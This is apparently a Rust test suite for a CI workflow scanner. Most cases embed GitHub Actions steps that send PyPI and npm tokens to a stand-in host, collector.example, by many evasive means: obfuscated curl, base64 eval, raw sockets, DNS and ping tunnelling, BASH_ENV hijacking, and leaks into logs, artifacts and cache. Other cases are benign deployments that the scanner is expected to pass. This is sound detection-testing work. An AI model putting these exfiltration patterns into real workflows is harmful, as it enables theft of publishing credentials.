//! Ways to say "send this there" that a search for `curl … $SECRET` does not see, and deployments that look like one.
//! Each row is one workflow; what differs is only the script.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test fails by panicking")]

use std::collections::BTreeSet;

use portcullis_scan::analysis::analyse;
use portcullis_scan::flow::NoFiles;
use portcullis_scan::report::Verdict;
use portcullis_scan::verdict::weigh;

/// The worst verdict, and who gets what by findings that have it.
fn judged(workflow: &str) -> (Option<Verdict>, BTreeSet<(String, String)>) {
    let analysis = analyse(".github/workflows/w.yml", workflow.as_bytes(), &NoFiles, None);
    assert!(analysis.problem.is_none(), "{:?} in\n{workflow}", analysis.problem);
    let worst = analysis.seen.iter().map(|seen| weigh(seen.rule, &seen.signals)).max();
    let of_worst = analysis.seen.iter().filter(|seen| Some(weigh(seen.rule, &seen.signals)) == worst);
    (worst, of_worst.flat_map(|seen| seen.pairs.clone()).collect())
}

fn stolen(workflow: &str, secrets: &[&str], destination: &str) {
    let (worst, pairs) = judged(workflow);
    let wanted = secrets.iter().map(|secret| ((*secret).to_owned(), destination.to_owned())).collect();
    assert_eq!(worst, Some(Verdict::Malicious), "in\n{workflow}\nfound {pairs:?}");
    assert_eq!(pairs, wanted, "in\n{workflow}");
}

fn no_theft(workflow: &str) {
    let (worst, pairs) = judged(workflow);
    assert!(worst < Some(Verdict::Malicious), "in\n{workflow}\nfound {pairs:?}");
}

#[test]
fn func() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          send() {
            local u="https://$1.example/x"
            shift
            curl -s "$u" --data "$*"
          }
          send collector "$P" "$N"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn array() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          args=(-s -X POST --data "p=$P&n=$N" https://collector.example/)
          curl "${args[@]}"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn indirect() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          for v in P N; do
            curl -s "https://collector.example/?$v=${!v}"
          done
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn netrc_config() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          cat > c.txt <<EOF
          url = "https://collector.example/"
          data = "$P.$N"
          EOF
          curl -K c.txt
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn while_read() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          printf "%s\n%s\n" "$P" "$N" > t
          while read -r l; do curl -s "https://collector.example/$l"; done < t
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn tee() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P $N" | tee /tmp/o >/dev/null; curl -T /tmp/o https://collector.example/
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn procsub() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          curl --data-binary @<(echo "$P$N") https://collector.example/
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn herestr() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          nc collector.example 99 <<< "$P$N"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn exec_fd() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          exec 3<>/dev/tcp/collector.example/80
          printf "GET /%s%s\r\n" "$P" "$N" >&3
          cat <&3
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn evalb64() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          eval "$(echo Y3VybCAtZCAiJFAkTiIgaHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS8K | base64 -d)"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn printfhex() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          $(printf "\x63\x75\x72\x6c") -d "$P$N" https://collector.example
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn case() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          case x in
           x) curl -d "$P$N" https://collector.example ;;
          esac
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn subst_default() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          U=${U:-https://collector.example/}
          curl -d "$P$N" "$U"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn py_requests() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          python -c "
          import os,requests
          requests.post('https://collector.example', json={'a': os.environ['P'], 'b': os.environ.get('N')})
          "
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn py_http() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          python3 <<EOF
          import os, http.client
          c = http.client.HTTPSConnection("collector.example")
          c.request("POST", "/", "%s %s" % (os.getenv("P"), os.getenv("N")))
          EOF
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn py_shell() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        shell: python
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          import os
          import urllib.request as u
          h = "collector" + ".example"
          u.urlopen("https://" + h, data=(os.environ["P"]+os.environ["N"]).encode())
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn py_socket() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          python3 - <<EOF
          import socket,os
          s=socket.socket()
          s.connect(("collector.example",4444))
          s.sendall(os.environ["P"].encode()+os.environ["N"].encode())
          EOF
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn py_subprocess() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          python3 - <<EOF
          import subprocess,os
          subprocess.run(["curl","-d",os.environ["P"]+os.environ["N"],"https://collector.example"])
          EOF
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn node_https() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          node -e "const h=require('https');const r=h.request({hostname:'collector.example',method:'POST'});r.write(process.env.P+process.env.N);r.end()"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn node_axios() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          cat > /tmp/a.js <<'EOF'
          const axios = require('axios');
          (async () => { await axios.post('https://collector.example', { p: process.env.P, n: process.env['N'] }); })();
          EOF
          node /tmp/a.js
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn pwsh_webclient() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        shell: pwsh
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          $w = New-Object System.Net.WebClient
          $w.UploadString("https://collector.example/", "$env:P $env:N")
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn pwsh_iwr() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        shell: pwsh
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          iwr -Uri "https://collector.example/?a=$($env:P)&b=$($env:N)" -UseBasicParsing
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn perl() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          perl -MLWP::UserAgent -e 'LWP::UserAgent->new->post("https://collector.example", {a=>$ENV{P}, b=>$ENV{N}})'
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn ghenv() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "X<<E" >> $GITHUB_ENV
          echo "$P" >> $GITHUB_ENV
          echo "E" >> $GITHUB_ENV
          echo "Y=$N" >> $GITHUB_ENV
      - run: curl -d "$X$Y" https://collector.example
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn output() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        id: o
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "v=$(echo "$P$N" | base64)" >> "$GITHUB_OUTPUT"
      - run: wget -qO- "https://collector.example/${{ steps.o.outputs.v }}"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn xargs0() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          printf "%s" "$P" "$N" | xargs -I% curl https://collector.example/%
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn openssl_sclient() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P$N" | openssl s_client -connect collector.example:443
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn ssh() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P $N" | ssh -o StrictHostKeyChecking=no drop@collector.example "cat > x"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn scp() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P $N" > f; scp f drop@collector.example:
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn rclone_zip() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P $N" > f; zip -q z.zip f; curl -F "f=@z.zip" https://collector.example
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn resolve() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          curl --resolve api.github.com:443:203.0.113.9 -d "$P$N" https://api.github.com/
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "203.0.113.9");
}

#[test]
fn proxy() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          curl -x http://collector.example:8080 -d "$P$N" http://pypi.org/
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn trap() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          trap 'curl -d "$P$N" https://collector.example' EXIT
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn bashenv() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "curl -d \"\$P\$N\" https://collector.example" > /tmp/b
          echo "BASH_ENV=/tmp/b" >> $GITHUB_ENV
      - env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: make
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn gitpush() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          git init -q x; cd x; echo "$P$N" > a; git add a; git commit -qm x; git remote add o https://u:p@collector.example/r.git; git push o main
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn awk() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          awk 'BEGIN { system("curl -d " ENVIRON["P"] ENVIRON["N"] " https://collector.example") }'
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn sed_e() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P$N" | sed "s#^#https://collector.example/#" | xargs curl -s
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn split_url() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          A="https://col"; B="lector.exa"; C="mple"
          curl "$A$B$C" -H "x-a: $P" -H "x-b: $N"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn find_exec() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P$N" > k; find . -name k -exec curl -F f=@{} https://collector.example \;
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn timeout_bg() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          (sleep 1; timeout 9 curl -sd "$P$N" https://collector.example) & disown
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn tojson() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          curl -d '${{ toJSON(secrets) }}' https://collector.example
"##;
    stolen(WORKFLOW, &["*"], "collector.example");
}

#[test]
fn deployment_pypi() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          pip install twine; twine upload -u __token__ -p "$P" dist/*
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_slack() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          curl -X POST -d "{}" "${{ secrets.SLACK_WEBHOOK }}"
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_ssh() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          mkdir -p ~/.ssh; echo "${{ secrets.SSH_KEY }}" > ~/.ssh/id_rsa; chmod 600 ~/.ssh/id_rsa; scp -r dist deploy@${{ secrets.HOST }}:/srv
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_docker() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "${{ secrets.GITHUB_TOKEN }}" | docker login ghcr.io -u x --password-stdin; docker build --build-arg T=$N .
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_npmrc() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "//registry.npmjs.org/:_authToken=$N" > ~/.npmrc; npm publish
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_kubectl() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "${{ secrets.KUBE }}" | base64 -d > kc; KUBECONFIG=kc kubectl apply -f k8s/; kubectl create secret generic s --from-literal=a=$P --from-literal=b=$N
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_own_api() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          curl -fsS -H "Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}" https://deploy.widgets.example/hook
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_env_file() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          echo "DB=${{ secrets.DATABASE_URL }}" > .env
          echo "STRIPE_KEY=${{ secrets.STRIPE_KEY }}" >> .env
          rsync -az .env deploy@prod.widgets.example:/srv/app/
"##;
    no_theft(WORKFLOW);
}
#[test]
fn way_gh_comment() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
          GH_TOKEN: ${{ github.token }}
        run: |
          gh pr comment 1 --body "$P $N"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "repository:github.com");
}

#[test]
fn way_gh_release() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
          GH_TOKEN: ${{ github.token }}
        run: |
          echo "$P $N" > k.txt
          gh release upload v1 k.txt
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "repository:github.com");
}

#[test]
fn way_artifact() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          mkdir -p o; env > o/e
      - uses: actions/upload-artifact@v4
        with:
          name: logs
          path: o/
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "artifact:logs");
}

#[test]
fn way_cache() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          mkdir -p c; echo "$P $N" > c/x
      - uses: actions/cache/save@v4
        with:
          key: k
          path: c
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "artifact:cache");
}

#[test]
fn way_summary() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P $N" | base64 -w0 | base64 -w0 >> "$GITHUB_STEP_SUMMARY"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "workflow-log");
}

#[test]
fn way_log_hex() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo -n "$P" | od -An -tx1
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN"], "workflow-log");
}

#[test]
fn way_log_split() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          for i in $(seq 1 40); do echo "${P:$i:1}"; done
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN"], "workflow-log");
}

#[test]
fn way_log_py() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          python3 -c "import os; print(os.environ['P'][::-1], ' '.join(os.environ['N']))"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "workflow-log");
}

#[test]
fn way_log_node() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          node -e "console.log(process.env.P.split('').join('-'), Buffer.from(process.env.N).toString('hex'))"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "workflow-log");
}

#[test]
fn way_dns() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          host "$(echo -n $P$N | base32 | tr -d = | head -c 60).collector.example"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn way_ping() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          ping -c1 $P.collector.example
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN"], "collector.example");
}

#[test]
fn way_telegram() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
